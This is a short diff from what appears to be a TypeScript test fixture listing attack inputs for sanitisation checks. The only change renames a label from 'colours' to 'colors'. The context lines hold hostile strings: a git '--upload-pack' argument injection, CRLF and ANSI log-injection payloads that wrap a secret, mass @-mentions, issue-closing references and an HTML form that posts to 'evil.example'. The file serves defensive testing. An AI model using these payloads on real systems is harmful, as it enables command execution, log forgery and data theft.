@@ -122,7 +122,7 @@ export const VISIBLE: readonly Attack[] = [
   },
   { kind: "shell", name: "an option", text: "--upload-pack=touch${IFS}x" },
   { kind: "log", name: "a line of its own", text: `x\r\n{"level":"info","msg":"${SECRET}"}` },
-  { kind: "log", name: "colours", text: `\u001B[2J\u001B[31m${SECRET}\u001B[0m` },
+  { kind: "log", name: "colors", text: `\u001B[2J\u001B[31m${SECRET}\u001B[0m` },
   { kind: "mention", name: "of everybody", text: "@octocat @octo-org/everyone @copilot" },
   { kind: "reference", name: "that closes", text: "fixes #1, closes octo-org/hello#2, GH-3" },
   { kind: "html", name: "a form", text: `<form action="https://evil.example"><input></form>` },
